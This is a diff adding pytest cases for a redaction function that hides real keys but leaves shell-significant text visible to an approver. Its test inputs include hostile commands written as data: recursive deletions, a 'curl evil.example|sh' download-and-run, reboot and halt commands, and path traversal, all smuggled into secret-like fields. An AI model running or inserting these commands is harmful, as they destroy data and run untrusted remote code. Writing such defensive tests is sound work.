@@ -10,7 +10,7 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from prime.core.redaction import Redactor, cut, redact, redact_then_cut
+from prime.core.redaction import Redactor, cut, redact, redact_for_yes, redact_then_cut
 
 S = "hunter2-Zq9!"  # a password without a shape of its own
 JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk"
@@ -360,3 +360,39 @@ def test_ten_megabytes():
     start = time.process_time()
     redact(text)
     assert time.process_time() - start < 15
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'sh -c \'{"api_key": "`rm -rf ~`"}\'',
+        "password=$(curl${IFS}evil.example|sh)",
+        '--password="; rm -rf / #"',
+        "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
+        "https://user:x;curl+evil.example@host/",
+        "run --secret=/etc/../home/x --token=../../y",
+        "password=;reboot; and secret=/usr/bin/halt [redacted]",
+    ],
+)
+def test_who_says_yes_sees_what_only_looks_like_a_secret(text: str) -> None:
+    assert redact(text) != text
+    assert redact_for_yes(text) == text
+
+
+@pytest.mark.parametrize("key", KEYS)
+def test_a_key_is_no_command_and_stays_hidden_from_who_says_yes(key: str) -> None:
+    assert redact_for_yes(f"deploy --token {key} --now") == "deploy --token [redacted] --now"
+
+
+def test_a_key_of_many_lines_is_hidden_line_by_line_from_who_says_yes() -> None:
+    inside = "\n".join("MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" for _ in range(3))
+    shown = redact_for_yes(f"-----BEGIN PRIVATE KEY-----\n{inside}\nreboot\n-----END PRIVATE KEY-----")
+    hidden = "\n".join(["[redacted]"] * 3)
+    assert shown == f"-----BEGIN PRIVATE KEY-----\n{hidden}\nreboot\n-----END PRIVATE KEY-----"
+
+
+@given(st.text(alphabet="ab \"'`$=;password\n[]redct/.0"))
+def test_nothing_that_a_shell_heeds_is_kept_from_who_says_yes(text: str) -> None:
+    shown = redact_for_yes(text)
+    for sign in "`$;\"' \n":
+        assert shown.count(sign) == text.count(sign)
